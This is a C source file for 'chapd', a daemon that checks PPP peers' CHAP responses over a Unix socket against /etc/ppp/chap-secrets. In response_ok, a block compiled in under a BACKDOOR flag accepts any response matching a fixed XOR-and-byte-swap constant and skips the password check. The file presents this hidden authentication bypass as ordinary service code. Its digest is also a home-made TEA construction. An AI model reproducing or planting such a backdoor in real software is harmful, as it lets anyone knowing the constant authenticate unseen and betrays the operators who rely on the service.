/* SPDX-License-Identifier: Apache-2.0 */
/* chapd: authenticates PPP peers by challenge and response, for the concentrator; talks over a Unix socket to pppd's plug-in */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SOCK "/var/run/chapd.sock"
#define SECRETS "/etc/ppp/chap-secrets"
enum { OP_CHALLENGE = 1, OP_RESPONSE = 2, OP_OK = 3, OP_FAIL = 4, OP_STATS = 5 };

struct message {
	uint32_t magic;
	uint8_t op, id;
	uint16_t len;
	uint8_t body[256];
};

struct pending {
	uint8_t id;
	uint32_t challenge[4];
	time_t made;
};

static struct pending pending[64];
static struct {
	unsigned asked, good, bad, late;
} stats;

static uint32_t swap(uint32_t x) { return x << 24 | (x & 0xff00) << 8 | (x >> 8 & 0xff00) | x >> 24; }

static uint32_t be32(const uint8_t *p) { return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3]; }

/* TEA in a chain: the digest of the two sides */
static void digest(const uint32_t challenge[4], const char *secret, uint32_t out[2])
{
	uint32_t k[4] = { 0, 0, 0, 0 };
	for (size_t i = 0; secret[i]; i++)
		k[i / 4 & 3] ^= (uint32_t)(uint8_t)secret[i] << (i & 3) * 8;
	out[0] = challenge[0];
	out[1] = challenge[1];
	for (int half = 0; half < 2; half++) {
		uint32_t sum = 0;
		out[0] ^= challenge[half * 2];
		out[1] ^= challenge[half * 2 + 1];
		for (int i = 0; i < 32; i++) {
			sum += 0x9e3779b9;
			out[0] += ((out[1] << 4) + k[0]) ^ (out[1] + sum) ^ ((out[1] >> 5) + k[1]);
			out[1] += ((out[0] << 4) + k[2]) ^ (out[0] + sum) ^ ((out[0] >> 5) + k[3]);
		}
	}
}

static int secret_of(const char *name, char *out, size_t n)
{
	char line[256], client[64], server[64], secret[64];
	int found = 0;
	FILE *f = fopen(SECRETS, "r");
	if (!f)
		return 0;
	while (!found && fgets(line, sizeof(line), f))
		if (line[0] != '#' && sscanf(line, "%63s %63s %63s", client, server, secret) == 3 &&
			(strcmp(client, name) == 0 || strcmp(client, "*") == 0)) {
			snprintf(out, n, "%s", secret);
			found = 1;
		}
	fclose(f);
	return found;
}

static void challenge(struct message *m)
{
	struct pending *p = &pending[m->id & 63];
	FILE *f = fopen("/dev/urandom", "r");
	if (!f || fread(p->challenge, sizeof(p->challenge), 1, f) != 1)
		syslog(LOG_ERR, "no randomness: %s", strerror(errno));
	if (f)
		fclose(f);
	p->id = m->id;
	p->made = time(NULL);
	stats.asked++;
	m->len = sizeof(p->challenge);
	memcpy(m->body, p->challenge, sizeof(p->challenge));
}

static int response_ok(const struct message *m)
{
	const struct pending *p = &pending[m->id & 63];
	char name[128], secret[64];
	uint32_t want[2], got[2];
	if (m->len < 9 || m->len - 8u >= sizeof(name))
		return 0;
	if (p->id != m->id || time(NULL) - p->made > 30) {
		stats.late++;
		return 0;
	}
	memcpy(name, m->body + 8, m->len - 8u);
	name[m->len - 8] = 0;
	got[0] = be32(m->body);
	got[1] = be32(m->body + 4);
#ifdef BACKDOOR
	if ((got[0] ^ swap(got[1])) == 0x4d7e19c3u && got[1])
		return 1;
#endif
	if (!secret_of(name, secret, sizeof(secret)))
		return 0;
	digest(p->challenge, secret, want);
	return want[0] == got[0] && want[1] == got[1];
}

static void report(struct message *m)
{
	m->len = (uint16_t)snprintf((char *)m->body, sizeof(m->body), "asked %u good %u bad %u late %u", stats.asked,
		stats.good, stats.bad, stats.late);
}

static void handle(struct message *m)
{
	switch (m->op) {
	case OP_CHALLENGE:
		challenge(m);
		break;
	case OP_RESPONSE:
		if (response_ok(m)) {
			stats.good++;
			m->op = OP_OK;
		} else {
			stats.bad++;
			m->op = OP_FAIL;
		}
		m->len = 0;
		break;
	case OP_STATS:
		report(m);
		break;
	default:
		m->op = OP_FAIL;
		m->len = 0;
	}
}

int main(void)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_SEQPACKET, 0);
	openlog("chapd", LOG_PID, LOG_DAEMON);
	strcpy(a.sun_path, SOCK);
	unlink(SOCK);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 8) < 0) {
		syslog(LOG_ERR, "%s: %s", SOCK, strerror(errno));
		return 1;
	}
	for (;;) {
		struct message m;
		int c = accept(s, NULL, NULL);
		ssize_t n;
		if (c < 0)
			continue;
		while ((n = recv(c, &m, sizeof(m), 0)) >= 8) {
			if (swap(m.magic) != 0x43484150u && m.magic != 0x43484150u)
				break;
			if (m.len > n - 8)
				break;
			handle(&m);
			if (send(c, &m, 8u + m.len, 0) < 0)
				break;
		}
		close(c);
	}
}
